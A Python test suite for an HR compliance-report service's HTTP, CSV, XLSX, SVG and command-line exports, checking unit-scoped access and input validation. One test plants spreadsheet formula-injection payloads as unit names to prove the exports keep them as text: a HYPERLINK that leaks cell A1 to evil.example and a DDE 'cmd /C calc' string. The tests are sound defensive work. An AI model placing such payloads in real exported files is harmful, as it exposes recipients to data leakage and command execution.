"""The compliance report over HTTP and the command line: JSON, CSV, XLSX, SVG; unit-scoped HR sees its units only."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner
from defusedxml import ElementTree
from openpyxl import load_workbook

from api.cli import main
from assessment.models import AssessedLevel
from learning import compliance_export
from learning.models import StaffMember
from tests.compliance_org import AS_OF, build_organisation

QUERY = f"deadline=2025-12-31&as_of={AS_OF}"
CONTRACT = ["unit", "cohort", "in_scope", "at_or_above", "share", "target", "gap_people"]


@pytest.fixture
def org(db_session, factory):
    return build_organisation(db_session, factory)


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_json_report_has_unit_rows_rollups_and_groups(api_as, org):
    response = api_as("hr").get(f"/api/v1/hr/compliance?{QUERY}")
    assert response.status_code == 200, response.json
    body = response.json
    assert (body["deadline"], body["as_of"], body["required_level"]) == ("2025-12-31", str(AS_OF), 4)
    rows = {(row["unit"], row["cohort"]): row for row in body["rows"]}
    assert rows[("ALL", "public_employee")] == {
        "unit": "ALL", "unit_name": "ALL", "group": "ALL", "cohort": "public_employee", "in_scope": 8,
        "at_or_above": 4, "share": 0.5, "target": 0.6, "gap_people": 1, "recent": 2, "projection": "2027-05",
        "on_track": False}
    assert rows[(org.d2.code, "public_employee_leader")]["projection"] == "never at this rate"
    assert {row["group"] for row in body["groups"]} == {"vgcl_department", "central_sector_union"}


def test_csv_export_follows_the_contract(api_as, org):
    response = api_as("hr").get(f"/api/v1/hr/compliance?{QUERY}&format=csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    assert text.splitlines()[0].split(",")[:2] == ["unit", "unit_name"]
    rows = _csv_rows(text)
    assert set(CONTRACT) <= set(rows[0])
    for row in rows:
        assert 0 <= float(row["share"]) <= 1 and 0 <= float(row["target"]) <= 1
    assert {(r["unit"], r["cohort"]) for r in rows if r["unit"] == "ALL"} == {
        ("ALL", c) for c in ("civil_servant", "public_employee", "public_employee_leader", "civil_servant_focus")}
    d1 = {r["cohort"]: r for r in rows if r["unit"] == org.d1.code}
    assert [d1["civil_servant"][key] for key in CONTRACT[2:]] == ["6", "2", "0.3333", "0.5000", "1"]
    assert len(rows) == 4 + 1 + 2 + 4  # D1, SUB, D2 rows, then the ALL rollups


def test_xlsx_export_is_a_readable_workbook(api_as, org):
    response = api_as("hr").get(f"/api/v1/hr/compliance?{QUERY}&format=xlsx")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    assert book.sheetnames == ["Compliance", "By unit group", "About"]
    values = list(book["Compliance"].iter_rows(values_only=True))
    assert list(values[0][:4]) == ["unit", "unit_name", "group", "cohort"]
    all_public = next(v for v in values if v[0] == "ALL" and v[3] == "public_employee")
    assert all_public[4:9] == (8, 4, 0.5, 0.6, 1)


def test_unit_names_that_look_like_formulas_stay_text_in_the_exports(api_as, org, db_session):
    """A unit named like a formula ran as one on HR's computer when the CSV or XLSX was opened (CSV injection)."""
    org.d1.name = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    org.d2.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db_session.flush()
    hr = api_as("hr")
    rows = _csv_rows(hr.get(f"/api/v1/hr/compliance?{QUERY}&format=csv").get_data(as_text=True))
    names = {row["unit"]: row["unit_name"] for row in rows}
    assert names[org.d1.code] == "'" + org.d1.name and names[org.d2.code] == "'" + org.d2.name
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    book = load_workbook(io.BytesIO(hr.get(f"/api/v1/hr/compliance?{QUERY}&format=xlsx").get_data()))
    cells = {row[0].value: row[1] for row in book["Compliance"].iter_rows(min_row=2)}
    assert cells[org.d1.code].data_type == "s" and cells[org.d1.code].value == org.d1.name


def test_svg_chart_is_well_formed(api_as, org):
    response = api_as("hr").get(f"/api/v1/hr/compliance/chart.svg?{QUERY}")
    assert response.status_code == 200
    assert response.mimetype == "image/svg+xml"
    root = ElementTree.fromstring(response.get_data())
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    texts = " ".join(element.text or "" for element in root.iter("{http://www.w3.org/2000/svg}text"))
    assert "vgcl_department" in texts and "central_sector_union" in texts
    assert len(list(root.iter("{http://www.w3.org/2000/svg}rect"))) >= 6  # bars and legend


def test_unit_hr_sees_only_its_unit_in_every_hr_endpoint_and_export(api_as, org):
    hr = api_as("hr", unit=org.d2)
    report = hr.get(f"/api/v1/hr/compliance?{QUERY}").json
    assert {row["unit"] for row in report["rows"]} == {org.d2.code, "ALL"}
    assert {row["group"] for row in report["groups"]} == {"central_sector_union"}
    assert {r["unit"] for r in _csv_rows(hr.get(f"/api/v1/hr/compliance?{QUERY}&format=csv").get_data(
        as_text=True))} == {org.d2.code, "ALL"}
    book = load_workbook(io.BytesIO(hr.get(f"/api/v1/hr/compliance?{QUERY}&format=xlsx").get_data()))
    assert {row[0] for row in book["Compliance"].iter_rows(min_row=2, values_only=True)} == {org.d2.code, "ALL"}
    svg = hr.get(f"/api/v1/hr/compliance/chart.svg?{QUERY}").get_data(as_text=True)
    assert "central_sector_union" in svg and "vgcl_department" not in svg
    people = hr.get("/api/v1/hr/people-levels").json
    assert {p["unit_id"] for p in people} == {org.d2.id}
    assert hr.get(f"/api/v1/hr/people-levels?unit_id={org.d1.id}").status_code == 403
    assert hr.get(f"/api/v1/hr/levels?unit_id={org.d1.id}").status_code == 403
    assert hr.get(f"/api/v1/hr/levels?unit_id={org.d2.id}").status_code == 200


def test_other_roles_get_no_compliance_and_bad_queries_are_refused(api_as, org):
    rater = api_as("rater")
    assert rater.get(f"/api/v1/hr/compliance?{QUERY}").status_code == 403
    assert rater.get("/api/v1/hr/people-levels").status_code == 403
    hr = api_as("hr")
    assert hr.get("/api/v1/hr/compliance").status_code == 422
    assert hr.get(f"/api/v1/hr/compliance?{QUERY}&format=pdf").status_code == 422
    assert hr.get("/api/v1/hr/compliance?deadline=2027-12-31").status_code == 404
    for path in ("/api/v1/hr/compliance?deadline=2025-12-31&", "/api/v1/hr/compliance/chart.svg?deadline=2025-12-31&",
                 "/api/v1/hr/people-levels?"):
        far_back = hr.get(f"{path}as_of=0001-01-01")  # forty years before it is not a date: was a 500
        assert far_back.status_code == 422 and far_back.json["errors"][0]["field"] == "as_of", far_back.json
        spelled_out = hr.get(f"{path}language=english")
        assert spelled_out.status_code == 422 and spelled_out.json["errors"][0]["field"] == "language"


def test_unit_levels_take_in_sub_units_as_the_staff_list_does(api_as, org):
    levels = api_as("hr").get(f"/api/v1/hr/levels?unit_id={org.d1.id}").json
    assert ("org-s1-" + org.sub.code, org.sub.id) in {(r["username"], r["unit_id"]) for r in levels}
    assert {r["unit_id"] for r in levels} == {org.d1.id, org.sub.id}
    only_sub = api_as("hr").get(f"/api/v1/hr/levels?unit_id={org.sub.id}").json
    assert [(r["username"], r["level"]) for r in only_sub] == [("org-s1-" + org.sub.code, 4)]


def test_people_levels_filter_over_http(api_as, org):
    hr = api_as("hr")
    rows = hr.get(f"/api/v1/hr/people-levels?unit_id={org.d1.id}&under_40=true&as_of={AS_OF}").json
    assert {(r["full_name"], r["level"], r["basis"]) for r in rows} == {("Person a1", 4, "certification"),
                                                                        ("Person a2", 3, "certification")}
    rows = hr.get(f"/api/v1/hr/people-levels?group=central_sector_union&language=fr&as_of={AS_OF}").json
    assert [(r["full_name"], r["level"], r["language"]) for r in rows] == [("Person c5", 4, "fr")]
    rows = hr.get(f"/api/v1/hr/people-levels?category=civil_servant&min_level=4&basis=external&as_of={AS_OF}").json
    assert [(r["full_name"], r["valid_until"]) for r in rows] == [("Person a4", "2027-01-10")]


def test_openapi_lists_the_compliance_endpoints(client):
    paths = client.get("/api/v1/openapi.json").json["paths"]
    for path in ("/api/v1/hr/compliance", "/api/v1/hr/compliance/chart.svg", "/api/v1/hr/people-levels"):
        assert path in paths


def test_cli_report_compliance_prints_csv_table_and_writes_xlsx(app, org, tmp_path):
    runner = CliRunner()
    with app.app_context():
        result = runner.invoke(main, ["report", "compliance", "--deadline", "2025-12-31", "--format", "csv",
                                      "--as-of", str(AS_OF)], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        rows = _csv_rows(result.output)
        assert set(CONTRACT) <= set(rows[0])
        assert ("ALL", "civil_servant", "7", "3") in {(r["unit"], r["cohort"], r["in_scope"], r["at_or_above"])
                                                      for r in rows}
        table = runner.invoke(main, ["report", "compliance", "--deadline", "2025-12-31", "--as-of", str(AS_OF)])
        assert table.exit_code == 0 and "ALL" in table.output and "never at this rate" in table.output
        out = tmp_path / "report.xlsx"
        written = runner.invoke(main, ["report", "compliance", "--deadline", "2025-12-31", "--format", "xlsx",
                                       "--out", str(out), "--as-of", str(AS_OF)])
        assert written.exit_code == 0, written.output
        assert load_workbook(out).sheetnames[0] == "Compliance"
        scoped = runner.invoke(main, ["report", "compliance", "--deadline", "2025-12-31", "--format", "csv",
                                      "--as-of", str(AS_OF), "--unit", org.d2.code])
        assert {r["unit"] for r in _csv_rows(scoped.output)} == {org.d2.code, "ALL"}
        far_back = runner.invoke(main, ["report", "compliance", "--deadline", "2025-12-31", "--as-of", "0001-01-01"])
        assert far_back.exit_code == 1 and "as_of" in far_back.output and "Traceback" not in far_back.output
        missing = runner.invoke(main, ["report", "compliance", "--deadline", "2027-12-31"])
        assert missing.exit_code != 0 and "2025-12-31" in missing.output
        for output in ("csv", "xlsx"):  # a folder that is not there: said, not a traceback
            nowhere = tmp_path / "no-such-folder" / f"report.{output}"
            refused = runner.invoke(main, ["report", "compliance", "--deadline", "2025-12-31", "--format", output,
                                           "--out", str(nowhere), "--as-of", str(AS_OF)])
            assert refused.exit_code == 1 and f"cannot write {nowhere}" in refused.output, refused.output


def test_leadership_roles_off_the_ladder_are_listed_for_hr_to_correct(api_as, org, db_session, app):
    """Roles stored before they were checked and naming no rung (kept by migration a065aa92f44d) count in no
    leadership cohort: the report lists the people it counts who have one, in the asker's units."""
    for key, role in (("a5", "Giám đốc"), ("c4", "Trưởng khoa"), ("t1", "Hiệu trưởng")):  # t1: out of scope
        org.staff[key].leadership_role = role
    org.staff["c4"].staff_number = "NV-0004"
    db_session.flush()
    report = api_as("hr").get(f"/api/v1/hr/compliance?{QUERY}").json
    listed = [(p["unit"], p["full_name"], p["leadership_role"]) for p in report["unrecognised_leadership_roles"]]
    assert listed == sorted([(org.d1.code, "Person a5", "Giám đốc"), (org.d2.code, "Person c4", "Trưởng khoa")])
    scoped = api_as("hr", unit=org.d2).get(f"/api/v1/hr/compliance?{QUERY}").json
    assert scoped["unrecognised_leadership_roles"] == [{
        "staff_id": org.staff["c4"].id, "staff_number": "NV-0004", "full_name": "Person c4", "unit": org.d2.code,
        "leadership_role": "Trưởng khoa"}]
    with app.app_context():
        table = CliRunner().invoke(main, ["report", "compliance", "--deadline", "2025-12-31", "--as-of",
                                          str(AS_OF), "--unit", org.d2.code])
    assert table.exit_code == 0, table.output
    assert "note: 1 person has a leadership role that names no rung of the ladder" in table.stderr
    assert f"{org.d2.code} NV-0004 Person c4: 'Trưởng khoa'" in table.stderr
    assert "Trưởng khoa" not in table.stdout  # the table itself is unchanged


def test_a_leaver_hr_records_counts_until_their_last_day_and_a_joiner_from_their_first(api_as, org):
    hr = api_as("hr")

    def d1(as_of: str) -> dict[str, tuple[int, int]]:
        report = hr.get(f"/api/v1/hr/compliance?deadline=2025-12-31&as_of={as_of}").json
        return {row["cohort"]: (row["in_scope"], row["at_or_above"]) for row in report["rows"]
                if row["unit"] == org.d1.code and row["cohort"].startswith("public_employee")}

    assert d1(str(AS_OF)) == {"public_employee": (3, 2), "public_employee_leader": (1, 1)}  # b1, b2, b3; b1 leads
    left = hr.patch(f"/api/v1/staff/{org.staff['b1'].id}", json={"left_on": "2026-11-22"})
    assert left.status_code == 200, left.json
    joins = hr.patch(f"/api/v1/staff/{org.staff['b2'].id}", json={"joined_on": "2026-11-24"})
    assert joins.status_code == 200, joins.json
    assert d1("2026-11-22") == {"public_employee": (2, 2), "public_employee_leader": (1, 1)}  # b1's last day
    assert d1(str(AS_OF)) == {"public_employee": (1, 1)}  # b1 gone, b2 not yet here: no leader left to count
    assert d1("2026-11-24") == {"public_employee": (2, 1)}
    assert hr.patch(f"/api/v1/staff/{org.staff['b1'].id}", json={"left_on": None}).status_code == 200
    assert d1(str(AS_OF)) == {"public_employee": (2, 2), "public_employee_leader": (1, 1)}  # reinstated


def test_xlsx_export_lists_the_leadership_roles_off_the_ladder_on_a_sheet_of_their_own(api_as, org, db_session):
    """The JSON report listed them and the XLSX did not; the CSV, a contract scripts read, stays as it was."""
    org.staff["a5"].leadership_role = "Giám đốc"
    org.staff["c4"].leadership_role = '=HYPERLINK("http://evil.example")'
    org.staff["c4"].staff_number = "NV-0004"
    db_session.flush()
    hr = api_as("hr")
    listed = hr.get(f"/api/v1/hr/compliance?{QUERY}").json["unrecognised_leadership_roles"]
    assert len(listed) == 2

    book = load_workbook(io.BytesIO(hr.get(f"/api/v1/hr/compliance?{QUERY}&format=xlsx").get_data()))
    assert book.sheetnames == ["Compliance", "By unit group", "Unrecognised leadership roles", "About"]
    rows = list(book["Unrecognised leadership roles"].iter_rows())
    header = tuple(cell.value for cell in rows[0])
    assert header == ("staff_id", "staff_number", "full_name", "unit", "leadership_role")
    assert [dict(zip(header, (cell.value for cell in row), strict=True)) for row in rows[1:]] == listed
    formula_like = next(row[4] for row in rows[1:] if row[1].value == "NV-0004")
    assert (formula_like.data_type, formula_like.value) == ("s", org.staff["c4"].leadership_role)  # text, not run
    assert any("Unrecognised leadership roles" in (row[0] or "") for row in book["About"].iter_rows(values_only=True))

    text = hr.get(f"/api/v1/hr/compliance?{QUERY}&format=csv").get_data(as_text=True)
    assert text.splitlines()[0] == ",".join(compliance_export.COLUMNS)
    assert "Giám đốc" not in text and "HYPERLINK" not in text



@pytest.mark.parametrize("as_of", ["9998-06-01", "9998-12-31"])
def test_a_projection_past_year_9999_is_reported_as_never_at_this_rate(api_as, factory, db_session, as_of):
    unit = factory.unit("vgcl_department")
    for index in range(6):  # one reached level 4 in the window, five have not: the gap's month is past 9999
        user = factory.user("candidate", unit=unit)
        db_session.add(StaffMember(full_name=f"Far {index}", unit_id=unit.id, category="civil_servant",
                                   user_id=user.id))
        if index == 0:
            db_session.add(AssessedLevel(user_id=user.id, level=4, basis="certification", language="en",
                                         awarded_at=datetime(9998, 3, 1, tzinfo=UTC)))
    db_session.flush()
    hr = api_as("hr")
    response = hr.get(f"/api/v1/hr/compliance?deadline=2025-12-31&as_of={as_of}")
    assert response.status_code == 200, response.json
    row = next(r for r in response.json["rows"] if r["unit"] == unit.code and r["cohort"] == "civil_servant")
    assert (row["recent"], row["gap_people"], row["projection"], row["on_track"]) == (
        1, 2, "never at this rate", False)
    assert hr.get(f"/api/v1/hr/compliance?deadline=2025-12-31&as_of={as_of}&format=csv").status_code == 200
